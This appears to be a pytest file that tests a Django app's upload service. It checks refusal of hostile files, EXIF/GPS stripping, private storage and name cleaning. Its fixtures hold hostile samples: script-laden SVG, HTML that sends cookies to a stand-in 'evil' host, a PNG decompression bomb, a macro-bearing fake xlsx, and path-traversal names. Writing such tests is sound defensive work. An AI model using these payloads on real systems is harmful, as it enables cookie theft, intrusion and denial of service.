"""E4: the upload path refuses hostile files outright, leaves nothing behind, and stores clean copies privately."""
import hashlib
import io
import struct
import zlib

import pytest
from django.utils import translation
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook
from PIL import Image

from parkbeat.audit.models import AuditEvent
from parkbeat.testing import VisitFactory
from parkbeat.files.models import Attachment
from parkbeat.files.services import attachment_create, attachment_open, clean_name


@pytest.fixture(autouse=True)
def _english_messages():
    """The assertions quote the English messages; the default interface language is Chinese."""
    with translation.override("en"):
        yield

SVG_WITH_SCRIPT = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
                   b'<script>fetch("/api/v1/enterprises/").then(r=>r.text()).then(alert)</script></svg>')
HTML = b"<!doctype html><html><body><script>document.location='//evil/'+document.cookie</script></body></html>"


def png_bytes(size=(8, 6), color=(200, 30, 30), exif=None, mode="RGB"):
    buffer = io.BytesIO()
    Image.new(mode, size, color).save(buffer, "PNG", **({"exif": exif} if exif is not None else {}))
    return buffer.getvalue()


def jpeg_bytes(size=(8, 6), exif=None):
    buffer = io.BytesIO()
    Image.new("RGB", size, (10, 120, 200)).save(buffer, "JPEG", **({"exif": exif} if exif is not None else {}))
    return buffer.getvalue()


def gps_exif():
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0131] = "secret-app 1.0"  # Software
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", (27.0, 49.0, 12.5), "E", (113.0, 8.0, 3.25)
    return exif


def xlsx_bytes():
    wb = Workbook()
    wb.active.append(["企业名称", "统一社会信用代码"])
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def png_bomb(width=100_000, height=100_000):
    """A tiny PNG whose header claims 10^10 pixels: decoding it would need tens of gigabytes."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00" * 1024)) + \
        chunk(b"IEND", b"")


def stored_files(settings):
    root = settings.PRIVATE_MEDIA_ROOT
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


@pytest.fixture
def visit(world):
    return VisitFactory(enterprise=world.enterprise, visitor=world.officer)


def assert_refused(settings, world, visit, name, content, message, **kwargs):
    events = AuditEvent.objects.count()
    with pytest.raises(ValidationError) as info:
        attachment_create(actor=world.officer, obj=visit, upload=SimpleUploadedFile(name, content), **kwargs)
    assert message in " ".join(info.value.messages)
    assert Attachment.objects.count() == 0
    assert AuditEvent.objects.count() == events
    assert stored_files(settings) == []


# ------------------------------------------------------------------ accepted files
def test_png_is_stored_privately_under_a_random_name_with_one_audit_event(world, visit, settings):
    attachment = attachment_create(actor=world.officer, obj=visit, upload=SimpleUploadedFile("现场照片.png", png_bytes()))

    stored = Attachment.objects.get()
    assert (stored.parent, stored.original_name, stored.kind, stored.mime_type, stored.uploaded_by) == (
        visit, "现场照片.png", "image", "image/png", world.officer)
    path = settings.PRIVATE_MEDIA_ROOT / stored.stored_name
    assert stored_files(settings) == [path]
    assert "现场照片" not in stored.stored_name and len(path.stem) == 32
    assert settings.MEDIA_ROOT not in path.parents and settings.STATIC_ROOT not in path.parents
    assert (stored.size, stored.sha256) == (path.stat().st_size, hashlib.sha256(path.read_bytes()).hexdigest())
    assert path.stat().st_mode & 0o777 == 0o600
    event = AuditEvent.objects.get(object_type="files.Attachment")
    assert (event.verb, event.object_id, event.actor_id, event.note) == (
        "create", str(attachment.pk), world.officer.pk, f"enterprises.Visit:{visit.pk}")


@pytest.mark.parametrize(("name", "content", "kind", "mime", "shown"), [
    ("报告.pdf", b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n", "pdf", "application/pdf", "报告.pdf"),
    ("名册.xlsx", xlsx_bytes(), "xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "名册.xlsx"),
    ("photo.JPEG", jpeg_bytes(), "image", "image/jpeg", "photo.jpg"),  # re-encoded: the name follows the content
])
def test_each_allowed_kind_is_accepted(world, visit, name, content, kind, mime, shown):
    attachment = attachment_create(actor=world.officer, obj=visit, upload=SimpleUploadedFile(name, content))

    assert (attachment.kind, attachment.mime_type, attachment.original_name) == (kind, mime, shown)


@pytest.mark.parametrize("fmt", ["GIF", "WEBP"])
def test_gif_and_webp_are_re_encoded_as_png(world, visit, fmt):
    buffer = io.BytesIO()
    Image.new("RGB", (5, 5), (1, 2, 3)).save(buffer, fmt)

    attachment = attachment_create(actor=world.officer, obj=visit,
                                   upload=SimpleUploadedFile(f"pic.{fmt.lower()}", buffer.getvalue()))

    assert (attachment.original_name, attachment.mime_type) == ("pic.png", "image/png")
    assert Image.open(attachment_open(attachment)).format == "PNG"


def test_png_with_exif_gps_comes_back_without_exif(world, visit):
    original = png_bytes(exif=gps_exif())
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(0x8825)  # given: the GPS position is there

    attachment = attachment_create(actor=world.officer, obj=visit, upload=SimpleUploadedFile("gps.png", original))

    stored = attachment_open(attachment).getvalue()
    image = Image.open(io.BytesIO(stored))
    assert dict(image.getexif()) == {}
    assert "exif" not in image.info
    assert b"eXIf" not in stored and b"PhoneMaker" not in stored
    assert (image.size, image.getpixel((0, 0))) == ((8, 6), (200, 30, 30))


def test_jpeg_with_exif_gps_comes_back_without_exif(world, visit):
    attachment = attachment_create(actor=world.officer, obj=visit,
                                   upload=SimpleUploadedFile("gps.jpg", jpeg_bytes(exif=gps_exif())))

    stored = attachment_open(attachment).getvalue()
    assert dict(Image.open(io.BytesIO(stored)).getexif()) == {}
    assert b"Exif" not in stored and b"secret-app" not in stored


# ------------------------------------------------------------------ refused files
def test_svg_with_script_is_refused(world, visit, settings):
    assert_refused(settings, world, visit, "logo.svg", SVG_WITH_SCRIPT, "Only these file types are accepted")


def test_svg_renamed_png_is_refused(world, visit, settings):
    assert_refused(settings, world, visit, "logo.png", SVG_WITH_SCRIPT, "does not match its name (.png)")


def test_html_renamed_jpg_is_refused(world, visit, settings):
    assert_refused(settings, world, visit, "photo.jpg", HTML, "does not match its name (.jpg)")


@pytest.mark.parametrize("name", ["page.html", "page.htm", "run.js", "x.php", "a.exe", "noextension", "pic.jpg.html"])
def test_script_and_markup_extensions_are_refused_even_with_image_content(world, visit, settings, name):
    assert_refused(settings, world, visit, name, png_bytes(), "Only these file types are accepted")


def test_png_content_named_pdf_is_refused(world, visit, settings):
    assert_refused(settings, world, visit, "report.pdf", png_bytes(), "does not match its name (.pdf)")


def test_a_kind_the_feature_does_not_take_is_refused(world, visit, settings):
    assert_refused(settings, world, visit, "report.pdf", b"%PDF-1.4\n%%EOF\n", "Only these file types are accepted",
                   kinds=("image",))


def test_oversize_file_is_refused(world, visit, settings):
    settings.UPLOAD_MAX_BYTES = 1000
    assert_refused(settings, world, visit, "big.pdf", b"%PDF-1.4\n" + b"0" * 1000, "larger than")


def test_oversize_stream_without_a_declared_size_is_refused(world, visit, settings):
    settings.UPLOAD_MAX_BYTES = 1000
    stream = io.BytesIO(b"%PDF-1.4\n" + b"0" * 5000)
    stream.name = "big.pdf"
    assert_refused(settings, world, visit, "big.pdf", stream.getvalue(), "larger than")
    with pytest.raises(ValidationError):
        attachment_create(actor=world.officer, obj=visit, upload=stream)
    assert Attachment.objects.count() == 0


def test_the_default_size_cap_is_10_mib(settings):
    assert settings.UPLOAD_MAX_BYTES == 10 * 1024 * 1024


def test_empty_file_is_refused(world, visit, settings):
    assert_refused(settings, world, visit, "empty.png", b"", "empty")


def test_decompression_bomb_is_refused_with_the_default_pixel_limit(world, visit, settings):
    bomb = png_bomb()
    assert len(bomb) < 200  # given: a tiny file

    assert_refused(settings, world, visit, "bomb.png", bomb, "too large")


def test_image_above_the_pixel_setting_is_refused(world, visit, settings):
    settings.IMAGE_MAX_PIXELS = 1000
    assert_refused(settings, world, visit, "wide.png", png_bytes(size=(50, 21)), "50 × 21")


def test_truncated_image_is_refused(world, visit, settings):
    assert_refused(settings, world, visit, "cut.png", png_bytes(size=(64, 64))[:60], "damaged")


def test_zip_named_xlsx_is_refused(world, visit, settings):
    import zipfile
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/vbaProject.bin", b"macro")
        archive.writestr("xl/workbook.xml", "<workbook/>")
    assert_refused(settings, world, visit, "macro.xlsx", buffer.getvalue(), "macros")


def test_upload_to_a_record_outside_the_users_scope_is_refused_and_writes_nothing(world, settings):
    other = VisitFactory(enterprise=world.other_enterprise, visitor=world.other_officer)

    with pytest.raises(PermissionDenied):
        attachment_create(actor=world.officer, obj=other, upload=SimpleUploadedFile("a.png", png_bytes()))

    assert (Attachment.objects.count(), stored_files(settings)) == (0, [])


def test_a_failed_audit_write_removes_the_stored_file(world, visit, settings, monkeypatch):
    def broken(**kwargs):
        raise RuntimeError("audit store down")
    monkeypatch.setattr("parkbeat.files.services.record", broken)

    with pytest.raises(RuntimeError):
        attachment_create(actor=world.officer, obj=visit, upload=SimpleUploadedFile("a.png", png_bytes()))

    assert (Attachment.objects.count(), stored_files(settings)) == (0, [])


def test_damaged_stored_file_is_not_served(world, visit):
    attachment = attachment_create(actor=world.officer, obj=visit, upload=SimpleUploadedFile("a.png", png_bytes()))
    attachment.path.write_bytes(b"replaced behind our back")

    with pytest.raises(ValidationError, match="damaged"):
        attachment_open(attachment)


# ------------------------------------------------------------------ names
@pytest.mark.parametrize(("raw", "clean"), [
    ("../../etc/passwd", "passwd"),
    ("..\\..\\windows\\win.ini", "win.ini"),
    ("/abs/path/照片.png", "照片.png"),
    ("a\x00b\r\nc\x1b[31m.png", "abc[31m.png"),
    ("...hidden.png", "hidden.png"),
    ('quo"te<>|*?.png', "quote.png"),
    ("\u202egnp.exe", "gnp.exe"),  # right-to-left override removed: what is shown is what it is
    ("", "file"),
    ("..", "file"),
    ("a" * 300 + ".png", "a" * 116 + ".png"),
])
def test_file_names_are_cleaned(raw, clean):
    assert clean_name(raw) == clean


def test_dot_dot_name_is_neutralised_and_stored_inside_the_private_root(world, visit, settings, tmp_path):
    attachment = attachment_create(actor=world.officer, obj=visit,
                                   upload=SimpleUploadedFile("../../etc/passwd.png", png_bytes()))

    assert attachment.original_name == "passwd.png"
    assert stored_files(settings) == [settings.PRIVATE_MEDIA_ROOT / attachment.stored_name]
    assert sorted(p.name for p in tmp_path.iterdir() if p.name not in ("private", "media")) == []


def test_dot_dot_name_without_an_allowed_extension_is_refused(world, visit, settings):
    assert_refused(settings, world, visit, "../../etc/passwd", png_bytes(), "Only these file types are accepted")
